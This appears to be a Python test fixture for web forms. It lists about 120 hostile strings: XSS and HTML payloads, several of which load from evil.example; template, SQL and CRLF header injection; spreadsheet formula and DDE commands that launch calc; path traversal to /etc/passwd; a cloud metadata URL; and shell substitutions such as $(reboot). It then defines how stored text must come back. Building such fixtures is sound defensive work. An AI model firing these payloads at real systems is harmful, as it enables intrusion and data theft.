"""120 strings that people, or somebody worse, put into text fields.

`HOSTILE` maps a short name to the text. `stored(text)` says what must come back: the same, without
NUL and lone surrogates (a text field of a form also turns lone line ends into CRLF; compare
`normal(text)`).
"""

import itertools

MAX_TEXT = 50_000
_PAYLOAD = "alert(1)"
SCRIPTS = [
    f"<script>{_PAYLOAD}</script>",
    f"<ScRiPt>{_PAYLOAD}</sCrIpT>",
    f"</textarea><script>{_PAYLOAD}</script>",
    f"</title><script>{_PAYLOAD}</script>",
    f"'\"><script>{_PAYLOAD}</script>",
    f"<img src=x onerror={_PAYLOAD}>",
    f"<svg onload={_PAYLOAD}>",
    f"<svg><animate onbegin={_PAYLOAD} attributeName=x dur=1s>",
    f"<body onload={_PAYLOAD}>",
    f"<details open ontoggle={_PAYLOAD}>",
    f"<input autofocus onfocus={_PAYLOAD}>",
    f"<a href=javascript:{_PAYLOAD}>click</a>",
    f"<iframe src=javascript:{_PAYLOAD}></iframe>",
    f"<iframe srcdoc='<script>{_PAYLOAD}</script>'></iframe>",
    f"<object data=javascript:{_PAYLOAD}></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>go</button></form>",
    f"<div hx-get=/people/ hx-trigger=load hx-on::load={_PAYLOAD}>",
    "<div data-hx-get=/healthz data-hx-trigger=load></div>",
    f"<math><mtext></p><img src=x onerror={_PAYLOAD}>",
    f"<noscript><p title='</noscript><img src=x onerror={_PAYLOAD}>'>",
    f"<!--><img src=x onerror={_PAYLOAD}>-->",
    f"<![CDATA[<script>{_PAYLOAD}</script>]]>",
    f"javascript:{_PAYLOAD}",
    f"data:text/html,<script>{_PAYLOAD}</script>",
    f"&lt;script&gt;{_PAYLOAD}&lt;/script&gt;",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{{ request.user.password }}",
    "{% load static %}{% static 'x' %}",
    "{% include '/etc/passwd' %}",
    "{% debug %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%(password)s",
    "%s %d %n",
    "{0.__class__}",
    "{user.password}",
    "\\x3cscript\\x3e",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "＋1",
    "'=1+1",
    'DDE("cmd";"/C calc";"!A0")',
    ";=1+1",
]
MARKDOWN = [
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "[a]: javascript:alert(1)\n[a]",
    "# heading\n\n- list\n- of two",
    "`code` and **bold**",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "<http://evil.example>",
    "* " * 60,
]
UNICODE = [
    "O'Neal",
    "O’Neal and “quotes”",
    "Zoë Ångström-Łukasiewicz",
    "Thibodeaux; DROP TABLE people_user;--",
    "北京市的老师",
    "معلم ممتاز",
    "שלום כיתה",
    "\u202eright to left override\u202c",
    "\u2066isolated\u2069 text",
    "\u200bzero\u200bwidth\u200b",
    "\ufeffbyte order mark",
    "e\u0301 combining",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a̴l̸g̷o",
    "👩🏽‍🏫 teaches 👨‍👩‍👧‍👦",
    "🇺🇸🏳️‍🌈",
    "\u00a0non-breaking\u00a0spaces",
    "ﬁ ligature ﷽",
    "İstanbul ısı",
    "ß ẞ ſ",
    "𝕳𝖊𝖑𝖑𝖔",
    "½ × ¾ ≠ ∞",
    "tab\there",
    "line\nbreak",
    "carriage\r\nreturn",
    "vertical\x0btab",
    "form\x0cfeed",
    "\x1b[31mred\x1b[0m",
    "bell\x07",
    "\x7fdelete",
    "\x85next line",
    "\u2028line separator\u2029",
]
REMOVED = [
    "NUL\x00inside",
    "\x00leading NUL",
    "lone \ud800 surrogate",
    "low \udc00 surrogate",
    "both \x00 and \udfff",
]
HEADERS = [
    "Subject\r\nBcc: everyone@evil.example",
    "name\nX-Injected: 1",
    "a%0d%0aSet-Cookie: x=1",
    "file:///etc/passwd",
    "../../etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "\\\\evil.example\\share",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)",
    "$(reboot)",
    "`reboot`",
    "| cat /etc/passwd",
    "null",
    "undefined",
    "0",
]
LONG = [
    "word " * 2_000,
    "x" * 10_000,
    "é" * 25_000,
    "line\n" * 1_000,
]
HOSTILE = {
    f"{group}-{number}": text
    for group, texts in {
        "script": SCRIPTS,
        "template": TEMPLATES,
        "formula": FORMULAS,
        "markdown": MARKDOWN,
        "unicode": UNICODE,
        "removed": REMOVED,
        "header": HEADERS,
        "long": LONG,
    }.items()
    for number, text in enumerate(texts, start=1)
}


def stored(text: str) -> str:
    """What must come back: all of it, save NUL and lone surrogates."""
    return "".join(
        character
        for character in text
        if character != "\x00" and not "\ud800" <= character <= "\udfff"
    )


def normal(text: str) -> str:
    """The text with line ends alike and without white space around it, as forms hand it on."""
    return stored(text).replace("\r\n", "\n").replace("\r", "\n").strip()


def batches(size: int):
    """The hostile texts in groups of `size`, for forms with several text fields."""
    items = iter(HOSTILE.items())
    while group := dict(itertools.islice(items, size)):
        yield group
